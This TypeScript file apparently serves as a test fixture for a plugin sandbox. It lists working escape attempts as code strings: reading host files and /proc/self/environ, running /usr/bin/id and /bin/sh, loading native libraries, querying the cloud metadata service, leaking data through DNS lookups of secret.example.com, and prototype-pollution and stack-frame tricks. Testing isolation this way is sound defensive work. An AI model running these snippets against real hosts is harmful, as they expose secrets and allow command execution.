import { escapesBySocket } from './escape-by-socket.ts';

/**
 * What a hostile plugin tries. Each attempt is the body of an async function that runs in the sandbox: what it returns it
 * has got, `undefined` and a throw mean that it got nothing. `target` holds a TCP `port`, a `socket` path, and a `file`
 * and a `folder` of the host, all of them real.
 */
export interface EscapeAttempt {
  readonly what: string;
  readonly code: string;
}

const files: readonly EscapeAttempt[] = [
  { what: 'read a file with node:fs', code: `return (await import('node:fs')).readFileSync(target.file, 'utf8')` },
  {
    what: 'read a file with node:fs/promises',
    code: `return (await import('node:fs/promises')).readFile(target.file, 'utf8')`,
  },
  { what: 'read a file with Deno', code: `return Deno.readTextFile(target.file)` },
  { what: 'open a file with Deno', code: `return (await Deno.open(target.file)).constructor.name` },
  { what: 'read a file as a blob', code: `return (await (await import('node:fs')).openAsBlob(target.file)).text()` },
  {
    what: 'read a file through a stream',
    code: `return new Promise((got, not) => require('node:fs').createReadStream(target.file).on('data', String).on('data', got).on('error', not))`,
  },
  { what: 'fetch a file URL', code: `return (await fetch('file://' + target.file)).text()` },
  {
    what: 'read the environment of the process',
    code: `return require('node:fs').readFileSync('/proc/self/environ', 'utf8')`,
  },
  {
    what: 'read the memory map of the host',
    code: `return require('node:fs').readFileSync('/proc/' + process.ppid + '/maps', 'utf8')`,
  },
  {
    what: 'write a file with node:fs',
    code: `require('node:fs').writeFileSync(target.folder + '/written', 'x'); return 'written'`,
  },
  { what: 'write a file with Deno', code: `Deno.writeTextFileSync(target.folder + '/written', 'x'); return 'written'` },
  { what: 'make a temporary file', code: `return Deno.makeTempFileSync()` },
  { what: 'make a temporary folder', code: `return require('node:fs').mkdtempSync('/tmp/escape-')` },
  { what: 'write a heap snapshot', code: `return require('node:v8').writeHeapSnapshot(target.folder + '/heap')` },
  { what: 'write a report', code: `return process.report.writeReport(target.folder + '/report') || undefined` },
  {
    what: 'open a database file',
    code: `const { DatabaseSync } = require('node:sqlite'); new DatabaseSync(target.folder + '/db').exec('create table t (x)'); return 'created'`,
  },
  {
    what: 'attach a database file',
    code: `const { DatabaseSync } = require('node:sqlite'); new DatabaseSync(':memory:').exec("attach '" + target.folder + "/db' as a; create table a.t (x)"); return 'attached'`,
  },
  {
    what: 'vacuum into a database file',
    code: `const { DatabaseSync } = require('node:sqlite'); new DatabaseSync(':memory:').exec("create table t (x); vacuum into '" + target.folder + "/db'"); return 'written'`,
  },
  {
    what: 'load an extension into the database',
    code: `const { DatabaseSync } = require('node:sqlite'); new DatabaseSync(':memory:', { allowExtension: true }).loadExtension(target.file); return 'loaded'`,
  },
  { what: 'list the working directory', code: `return [...Deno.readDirSync('.')].length` },
  { what: 'learn the working directory', code: `return process.cwd() === '/' ? undefined : process.cwd()` },
  { what: 'find out that a file exists', code: `return require('node:fs').existsSync(target.file) || undefined` },
  { what: 'look at a file', code: `return require('node:fs').statSync(target.file).size` },
  {
    what: 'link to a file',
    code: `require('node:fs').symlinkSync(target.file, target.folder + '/link'); return 'linked'`,
  },
  { what: 'remove a file', code: `require('node:fs').rmSync(target.file); return 'removed'` },
  { what: 'change the mode of a file', code: `require('node:fs').chmodSync(target.file, 0o777); return 'changed'` },
  { what: 'watch a folder', code: `return Deno.watchFs(target.folder).constructor.name` },
  { what: 'import a file as text', code: `return (await import(target.file, { with: { type: 'text' } })).default` },
  {
    what: 'import a file as JSON',
    code: `return (await import('file://' + target.file, { with: { type: 'json' } })).default`,
  },
  { what: 'require a file', code: `return require(target.file)` },
  {
    what: 'read through a WASI preopen',
    code: `const { WASI } = require('node:wasi'); return typeof new WASI({ version: 'preview1', preopens: { '/': '/' } }).getImportObject`,
  },
  {
    what: 'keep data in localStorage',
    code: `localStorage.setItem('kept', 'yes'); return localStorage.getItem('kept')`,
  },
  {
    what: 'keep data in the Cache API',
    code: `const cache = await caches.open('kept'); await cache.put('https://a.example', new Response('yes')); return 'kept'`,
  },
  { what: 'keep data in a Deno KV', code: `return (await Deno.openKv()).constructor.name` },
];

const processes: readonly EscapeAttempt[] = [
  {
    what: 'read a variable of the environment',
    code: `return process.env.PATH ?? process.env.ESCAPE_CANARY ?? Deno.env.get('ESCAPE_CANARY')`,
  },
  {
    what: 'list the environment',
    code: `return Object.keys({ ...process.env, ...Deno.env.toObject() }).join() || undefined`,
  },
  { what: 'learn the host name', code: `return require('node:os').hostname()` },
  { what: 'learn the user', code: `return require('node:os').userInfo().username` },
  { what: 'learn the network interfaces', code: `return Object.keys(require('node:os').networkInterfaces()).join()` },
  { what: 'learn the load of the machine', code: `return Deno.loadavg()` },
  {
    what: 'run a command with node:child_process',
    code: `return require('node:child_process').execFileSync('/usr/bin/id').toString()`,
  },
  {
    what: 'spawn a command with node:child_process',
    code: `return new Promise((got, not) => { const p = require('node:child_process').spawn('/usr/bin/id'); p.on('error', not); p.stdout.on('data', (data) => got(String(data))); })`,
  },
  {
    what: 'run a command with Deno',
    code: `return new TextDecoder().decode(new Deno.Command('/usr/bin/id').outputSync().stdout)`,
  },
  {
    what: 'run Deno itself',
    code: `return new Deno.Command(Deno.execPath(), { args: ['eval', '1'] }).outputSync().code`,
  },
  {
    what: 'fork a cluster',
    code: `return new Promise((got, not) => require('node:cluster').fork().on('online', () => got('forked')).on('error', not))`,
  },
  { what: 'replace the process', code: `process.execve('/bin/true', [], {}); return 'replaced'` },
  {
    what: 'reach an internal binding',
    code: `return typeof process.binding('spawn_sync').spawn({ file: '/bin/id', args: ['id'], stdio: [] }).pid`,
  },
  {
    what: 'load a native addon',
    code: `process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'); return 'loaded'`,
  },
  {
    what: 'call into a library with Deno',
    code: `return Object.keys(Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } }).symbols)`,
  },
  { what: 'call into a library with Node', code: `return typeof require('node:ffi').dlopen('libc.so.6', {})` },
  {
    what: 'look at raw memory',
    code: `return new Deno.UnsafePointerView(Deno.UnsafePointer.create(4096n)).getUint8()`,
  },
  { what: 'signal the host', code: `process.kill(process.ppid, 0); return 'signalled'` },
  { what: 'signal the host with Deno', code: `Deno.kill(Deno.ppid, 'SIGCONT'); return 'signalled'` },
  { what: 'become another user', code: `process.setuid(0); return process.getuid() === 0 ? 'root' : undefined` },
  {
    what: 'ask for a permission',
    code: `return (await Deno.permissions.request({ name: 'read' })).state === 'granted' || undefined`,
  },
  {
    what: 'have a permission',
    code: `for (const name of ['read', 'write', 'net', 'env', 'run', 'ffi', 'import']) { const { state } = await Deno.permissions.query({ name }); if (state !== 'denied' && state !== 'prompt') return name; }`,
  },
  { what: 'open the inspector', code: `require('node:inspector').open(0); return require('node:inspector').url()` },
  {
    what: 'run code in an inspector session',
    code: `const { Session } = require('node:inspector'); const session = new Session(); session.connectToMainThread(); return 'connected'`,
  },
  {
    what: 'turn on natives syntax',
    code: `require('node:v8').setFlagsFromString('--allow-natives-syntax'); return String(new Function('return %HaveSameMap({}, {})')())`,
  },
  {
    what: 'read a file in generated code',
    code: `return new Function("return Deno.readTextFileSync('" + target.file + "')")()`,
  },
  {
    what: 'read a file in another context',
    code: `return require('node:vm').runInNewContext('read(file)', { read: Deno.readTextFileSync, file: target.file })`,
  },
  {
    what: 'read a file in a worker',
    code: `return new Promise((got, not) => { const worker = new Worker('data:text/javascript,' + encodeURIComponent('postMessage(Deno.readTextFileSync(' + JSON.stringify(target.file) + '))'), { type: 'module', deno: { permissions: { read: true } } }); worker.onmessage = (event) => got(event.data); worker.onerror = (event) => { event.preventDefault(); not(event.message); }; })`,
  },
  {
    what: 'read a file in a worker with the same rights',
    code: `return new Promise((got, not) => { const worker = new Worker('data:text/javascript,' + encodeURIComponent('postMessage(Deno.readTextFileSync(' + JSON.stringify(target.file) + '))'), { type: 'module' }); worker.onmessage = (event) => got(event.data); worker.onerror = (event) => { event.preventDefault(); not(event.message); }; })`,
  },
  {
    what: 'run a shell',
    code: `return require('node:child_process').spawnSync('/bin/sh', ['-c', 'id']).stdout?.toString() || undefined`,
  },
  {
    what: 'read a file in a thread',
    code: `return new Promise((got, not) => { const { Worker } = require('node:worker_threads'); new Worker('require("node:worker_threads").parentPort.postMessage(require("node:fs").readFileSync(' + JSON.stringify(target.file) + ', "utf8"))', { eval: true, execArgv: [], env: {} }).on('message', got).on('error', not); })`,
  },
  {
    what: 'read from raw descriptors',
    code: `const fs = require('node:fs'); for (let fd = 0; fd < 41; fd += 1) { try { if (fs.readSync(fd, new Uint8Array(8)) > 0) return fd; } catch {} }`,
  },
  {
    what: 'write to raw descriptors',
    code: `const fs = require('node:fs'); for (let fd = 4; fd < 41; fd += 1) { try { if (fs.writeSync(fd, new Uint8Array(16).fill(255)) > 0) return fd; } catch {} }`,
  },
  {
    what: 'reach the internals of Deno',
    code: `return Deno[Deno.internal]?.core?.ops?.op_fs_read_file_text_sync?.(target.file)`,
  },
  { what: 'use the graphics card', code: `return (await navigator.gpu?.requestAdapter())?.constructor.name` },
];

const network: readonly EscapeAttempt[] = [
  {
    what: 'connect with node:net',
    code: `return new Promise((got, not) => require('node:net').connect(target.port, '127.0.0.1').on('connect', () => got('connected')).on('error', not))`,
  },
  {
    what: 'connect with Deno',
    code: `return (await Deno.connect({ hostname: '127.0.0.1', port: target.port })).constructor.name`,
  },
  {
    what: 'connect with TLS',
    code: `return (await Deno.connectTls({ hostname: 'localhost', port: target.port })).constructor.name`,
  },
  ...['127.0.0.1', 'localhost', '[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f.1', '0'].map((host) => ({
    what: `ask ${host} with node:http`,
    code: `return new Promise((got, not) => require('node:http').get('http://${host}:' + target.port, (response) => got(response.statusCode)).on('error', not))`,
  })),
  {
    what: 'ask the metadata service',
    code: `return new Promise((got, not) => require('node:http').get('http://169.254.169.254/latest/meta-data/', (response) => got(response.statusCode)).on('error', not))`,
  },
  {
    what: 'ask over HTTP/2',
    code: `return new Promise((got, not) => require('node:http2').connect('http://127.0.0.1:' + target.port).on('connect', () => got('connected')).on('error', not))`,
  },
  {
    what: 'fetch the loopback past the broker',
    code: `return (await fetch('http://127.0.0.1:' + target.port)).status`,
  },
  {
    what: 'fetch through a request that changes its URL',
    code: `const request = new Request('data:,x'); let looks = 0; Object.defineProperty(request, 'url', { get: () => (looks++ === 0 ? 'data:,x' : 'http://127.0.0.1:' + target.port) }); const text = await (await fetch(request)).text(); return text === 'x' ? undefined : text`,
  },
  {
    what: 'open a WebSocket',
    code: `return new Promise((got, not) => { const socket = new WebSocket('ws://127.0.0.1:' + target.port); socket.onopen = () => got('open'); socket.onerror = (event) => not(event.message); })`,
  },
  {
    what: 'open an EventSource',
    code: `return new Promise((got, not) => { const source = new EventSource('http://127.0.0.1:' + target.port); source.onopen = () => got('open'); source.onerror = (event) => not(String(event.message)); })`,
  },
  {
    what: 'resolve a name with node:dns',
    code: `return (await require('node:dns/promises').lookup('localhost')).address`,
  },
  {
    what: 'send data out in a DNS query',
    code: `return require('node:dns/promises').resolveTxt('secret.example.com')`,
  },
  { what: 'resolve a name with Deno', code: `return Deno.resolveDns('secret.example.com', 'A')` },
  {
    what: 'connect to a unix socket',
    code: `return new Promise((got, not) => require('node:net').connect(target.socket).on('connect', () => got('connected')).on('error', not))`,
  },
  {
    what: 'connect to a unix socket with Deno',
    code: `return (await Deno.connect({ transport: 'unix', path: target.socket })).constructor.name`,
  },
  {
    what: 'send a datagram',
    code: `return new Promise((got, not) => { const socket = require('node:dgram').createSocket('udp4'); socket.on('error', not); socket.send('x', target.port, '127.0.0.1', (error) => (error ? not(error) : got('sent'))); })`,
  },
  {
    what: 'listen on a port',
    code: `return new Promise((got, not) => require('node:net').createServer().listen(0, () => got('listening')).on('error', not))`,
  },
  { what: 'listen on a port with Deno', code: `return Deno.listen({ port: 0 }).addr.port` },
  { what: 'serve HTTP', code: `return Deno.serve({ port: 0, onListen() {} }, () => new Response()).addr.port` },
  {
    what: 'import a module from the network',
    code: `return Object.keys(await import('http://127.0.0.1:' + target.port + '/module.js'))`,
  },
  { what: 'import a package', code: `return Object.keys(await import('npm:' + 'left-pad'))` },
];

/** Ways through the engine and through what the host's own code in the process trusts. */
const engine: readonly EscapeAttempt[] = [
  {
    what: 'find a privileged function among the frames of a stack',
    code: `const before = Error.prepareStackTrace; try { Error.prepareStackTrace = (_, frames) => frames; const frames = new Error().stack; for (const frame of frames) { const made = frame.getFunction?.(); if (typeof made === 'function') { const out = made.constructor('return globalThis.process?.env.ESCAPE_CANARY')(); if (out !== undefined) return out; } const self = frame.getThis?.(); if (self !== undefined && self !== null && self !== globalThis) return typeof self; } } finally { Error.prepareStackTrace = before; }`,
  },
  {
    what: 'read a file through an import of WebAssembly',
    code: `const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 101, 1, 102, 0, 0, 8, 1, 0]); let got; new WebAssembly.Instance(new WebAssembly.Module(bytes), { e: { f: () => { got = Deno.readTextFileSync(target.file); } } }); return got`,
  },
  {
    what: 'make a fine clock of shared memory and a thread',
    code: `const shared = new Int32Array(new SharedArrayBuffer(4)); const worker = new Worker('data:text/javascript,' + encodeURIComponent('onmessage = ({ data }) => { for (;;) Atomics.add(data, 0, 1); }'), { type: 'module' }); worker.onerror = (event) => event.preventDefault(); worker.postMessage(shared); await new Promise((done) => setTimeout(done, 300)); worker.terminate(); return Atomics.load(shared, 0) > 0 ? 'ticks' : undefined`,
  },
  {
    what: 'pass for granted by a polluted prototype',
    code: `const added = ['granted', 'permissions', 'read', 'allow']; for (const name of added) Object.defineProperty(Object.prototype, name, { value: [target.file], configurable: true, writable: true }); try { return Deno.readTextFileSync(target.file); } finally { for (const name of added) delete Object.prototype[name]; }`,
  },
  {
    what: 'reach a value behind a serialiser that its own getters replace',
    code: `const value = { get self() { return this; }, toJSON() { return Deno.readTextFileSync(target.file); } }; value.list = [value]; return structuredClone({ text: JSON.stringify(value) }).text`,
  },
];

export const escapeAttempts: readonly EscapeAttempt[] = [
  ...files,
  ...processes,
  ...network,
  ...engine,
  ...escapesBySocket,
];
